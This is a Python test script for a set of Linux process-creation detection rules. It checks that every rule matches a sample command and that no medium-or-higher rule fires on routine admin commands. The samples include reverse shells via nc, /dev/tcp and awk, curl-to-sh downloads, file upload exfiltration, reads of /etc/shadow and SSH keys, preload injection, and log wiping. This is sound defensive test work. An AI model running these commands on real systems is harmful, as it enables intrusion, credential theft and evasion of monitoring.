#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Rules of user/share/rules.d: each fits its example, and none above low fits daily work.

Needs build/tests/e2e/sigma. One line of EXAMPLES: rule, program, command line; behind " << " the
command line of the parent.
"""
import glob
import json
import os
import re
import subprocess
import sys
import tempfile

BUILD = os.environ.get("PICKET_BUILD", "build")
RULES = sorted(glob.glob("user/share/rules.d/*.yml"))

EXAMPLES = r"""
account_change_password /usr/bin/passwd passwd bob
account_create /usr/sbin/useradd useradd -m bob
account_discovery /usr/bin/getent getent passwd
account_passwd_read /usr/bin/cat cat /etc/passwd
account_root_twin /usr/sbin/useradd useradd -g 0 -M -d /root bob
account_shadow_read /usr/bin/cat cat /etc/shadow
archive_by_script /usr/bin/python3.11 python3 -c import gzip
archive_of_home /usr/bin/tar tar czf /tmp/x.tgz /home
at_job /usr/bin/at at now + 1 minute
auditing_off /usr/sbin/auditctl auditctl -e 0
base64_decode /usr/bin/base64 base64 -d
base64_to_shell /usr/bin/dash sh -c echo aWQ= | base64 -d | sh
browser_data /usr/bin/find find / -path *.mozilla/firefox/*/places.sqlite
clipboard_screen /usr/bin/xclip xclip -o
clock_change /usr/bin/date date -s 2001-01-01
compile /usr/bin/gcc gcc x.c
container_escape_tools /usr/bin/nsenter nsenter -t 1 -m sh
cron_read /usr/bin/crontab crontab -l
crontab_change /usr/bin/crontab crontab /tmp/x
data_split /usr/bin/split split -b 5000000 x
delay_with_ping /usr/bin/ping ping -c 250 8.8.8.8
dga_lookups /usr/bin/dig dig +short x.example
drivers_discovery /usr/bin/kmod lsmod
encoded_request /usr/bin/curl curl -XPOST MTExLTExLTExMTE=.example.com
encrypt_files /usr/bin/ccencrypt ccencrypt -K x /tmp/y
exfil_cloud_tools /usr/bin/rclone rclone copy /x remote:
exfil_upload /usr/bin/curl curl -F file=@x https://h.example
firewall_off /usr/sbin/nft nft flush ruleset
geolocation /usr/bin/curl curl https://ipinfo.io/
guessing_ssh /usr/bin/sshpass sshpass -p x ssh h
hidden_by_mount /usr/bin/mount mount -B /proc/58 /proc/110
hidden_directory /usr/bin/mkdir mkdir /root/...
history_clear /usr/bin/rm rm /root/.bash_history
history_read /usr/bin/cat cat /root/.bash_history
immutable_flag /usr/bin/chattr chattr -i /x
kernel_module_by_hand /usr/bin/kmod insmod /tmp/x.ko
kernel_version /usr/bin/uname uname -a
keys_search /usr/bin/find find / -name *.kdbx
keys_ssh /usr/bin/cat cat /root/.ssh/id_rsa
locale_discovery /usr/bin/locale locale
log_delete /usr/bin/rm rm -f /var/log/auth.log
log_delete /usr/bin/rm rm -f /var/log/auth.log << bash -c # /var/lib/dpkg/info/x.postrm
log_delete /usr/bin/rm rm -f /var/log/auth.log << /bin/sh /tmp/var/lib/dpkg/info/x.postrm
login_profile /usr/bin/dash sh -c echo x >> ~/.bashrc
mail_data /usr/bin/cp cp -R /var/spool/mail/x /tmp
masquerade_name /tmp/crond /tmp/crond
memory_dump_tool /usr/bin/gcore gcore 1
memory_of_process /usr/bin/dd dd if=/proc/118/mem of=/tmp/x
network_config_discovery /usr/bin/ip ip addr show
network_connections_discovery /usr/bin/ss ss -antp
network_neighbours /usr/bin/ip ip neighbour show
network_scanner /usr/bin/nmap nmap -sS 10.0.0.0/24
network_shares /usr/sbin/showmount showmount -e h
odd_user_agent /usr/bin/curl curl -A Opera/8 h
packed_program /usr/bin/upx upx x
pam_change /usr/bin/cat cat /etc/login.defs
pam_write /usr/bin/sed sed -i s/a/b/ /etc/pam.d/sshd
permissions_all /usr/bin/chmod chmod 777 /x
permissions_change /usr/bin/chown chown root /x
preload /usr/bin/dash sh -c echo /tmp/x.so > /etc/ld.so.preload
process_discovery /usr/bin/ps ps aux
process_end /usr/bin/pkill pkill -TERM cron
python_startup_hook /usr/bin/python3.11 python3 -c import site; site.getusersitepackages()
remote_access_tunnel /usr/bin/ngrok ngrok tcp 22
script_from_temp /usr/bin/bash bash /tmp/x.sh
security_software_discovery /usr/bin/grep grep -E falcond|auditd
security_software_off /usr/bin/systemctl systemctl stop auditd
service_change /usr/bin/systemctl systemctl enable x.service
service_discovery /usr/bin/systemctl systemctl --type=service
service_from_temp /usr/bin/systemctl systemctl link /tmp/x.service
service_stop /usr/bin/systemctl systemctl stop cron
setid_search /usr/bin/find find / -perm -4000
setid_set /usr/bin/chmod chmod u+s /x
setid_set /usr/bin/chmod chmod u+s /x << sh -c chmod # /var/lib/dpkg/info/x.postinst configure
shell_busybox /usr/bin/busybox busybox sh
shell_by_tool /usr/bin/mawk awk BEGIN {system("/bin/sh &")}
shell_dev_tcp /usr/bin/bash bash -c exec 3<>/dev/tcp/h/1
shell_netcat /usr/bin/nc.traditional nc -e /bin/sh h 1
shell_pipe_download /usr/bin/dash sh -c curl -s http://h/x | sh
shell_profile_user /usr/sbin/usermod usermod -s /bin/sh x
shell_trap /usr/bin/bash bash -c trap "nohup sh /tmp/x" EXIT
shells_listed /usr/bin/cat cat /etc/shells
stage_data /usr/bin/dash sh -c ps > /tmp/discovery.txt
system_discovery /usr/bin/hostname hostname
timestamp_change /usr/bin/touch touch -acmr /bin/sh /tmp/x
transfer_copy /usr/bin/scp scp x u@h:/tmp
transfer_whois /usr/bin/whois whois -h h -p 8443 x
user_discovery /usr/bin/whoami whoami
"""

DAILY = r"""
/usr/bin/ls ls -la /root
/usr/bin/make make -j2
/usr/bin/gcc gcc -O2 -c x.c
/usr/bin/touch touch build/stamp
/usr/bin/chmod chmod +x configure
/usr/bin/chmod chmod 644 /etc/hosts
/usr/bin/tar tar czf /srv/backup.tgz /home /etc
/usr/bin/rsync rsync -a /home backup@h:/srv
/usr/bin/apt-get apt-get upgrade
/usr/bin/dpkg dpkg --configure -a
/usr/bin/systemctl systemctl restart nginx
/usr/bin/systemctl systemctl status auditd
/usr/bin/journalctl journalctl --vacuum-time=2d
/usr/bin/dash sh ./configure --prefix=/usr
/usr/bin/bash bash -c cd /src && go test ./...
/usr/bin/go go build ./...
/usr/bin/git git log --oneline
/usr/bin/grep grep -rn token src
/usr/bin/find find . -name *.c -newer Makefile
/usr/sbin/iptables iptables -t nat -X DOCKER-ISOLATION
/usr/sbin/logrotate logrotate /etc/logrotate.conf
/usr/sbin/cron /usr/sbin/cron -f
/usr/bin/ssh ssh h uptime
/usr/bin/date date +%s
/usr/bin/cp cp -p /etc/shadow /var/backups/shadow.bak
/usr/bin/openssl openssl req -new -key k.pem
/usr/bin/nc nc -z h 22
/usr/bin/python3.11 python3 -m venv env
/usr/bin/rm rm -rf /var/log/chrony << /bin/sh /var/lib/dpkg/info/chrony.postrm purge
/usr/bin/rm rm -f /var/log/x.log << /bin/sh -e /var/lib/dpkg/tmp.ci/preinst upgrade 1.0
/usr/sbin/setcap setcap cap_net_raw+ep /bin/ping << /bin/sh /var/lib/dpkg/info/iputils-ping.postinst configure 3:1
/usr/bin/chmod chmod 4755 /usr/lib/x << /bin/bash /var/lib/dpkg/info/x.postinst configure
"""


def hits(lines):
    """For each (program, command line) the names of the rules that fit it."""
    with tempfile.NamedTemporaryFile("w", suffix=".jsonl") as f:
        for image, line in lines:
            line, _, parent = line.partition(" << ")
            fields = {"Image": image, "CommandLine": line}
            if parent:
                fields["ParentCommandLine"] = parent
            f.write(json.dumps({"category": "process_creation", "product": "linux", "ts": 1,
                                "fields": fields}) + "\n")
        f.flush()
        out = subprocess.run([os.path.join(BUILD, "tests/e2e/sigma"), f.name] + RULES, check=True,
                             stdout=subprocess.PIPE, text=True).stdout
    found = [set() for _ in lines]
    for number, path in re.findall(r"^(\d+) (\S+) \d+$", out, re.M):
        found[int(number) - 1].add(os.path.basename(path)[:-4])
    return found


def verdict(number, name, complaints):
    print("%sok %d - %s" % ("not " if complaints else "", number, name))
    for c in complaints:
        print("# " + c)
    return bool(complaints)


def main():
    print("1..3")
    examples = [line.split(" ", 2) for line in EXAMPLES.strip().split("\n")]
    names = {os.path.basename(r)[:-4] for r in RULES}
    bad = verdict(1, "each of %d rules has an example" % len(names),
                  sorted(names ^ {e[0] for e in examples}))
    found = hits([(e[1], e[2]) for e in examples])
    bad |= verdict(2, "each rule fits its example",
                   ["%s: %s" % (e[0], e[2]) for e, f in zip(examples, found) if e[0] not in f])
    high = {os.path.basename(r)[:-4] for r in RULES
            if re.search(r"^level: (medium|high|critical)", open(r).read(), re.M)}
    daily = [line.split(" ", 1) for line in DAILY.strip().split("\n")]
    bad |= verdict(3, "none above low fits daily work",
                   ["%s: %s" % (", ".join(sorted(f & high)), d[1])
                    for d, f in zip(daily, hits(daily)) if f & high])
    return bad


sys.exit(1 if main() else 0)
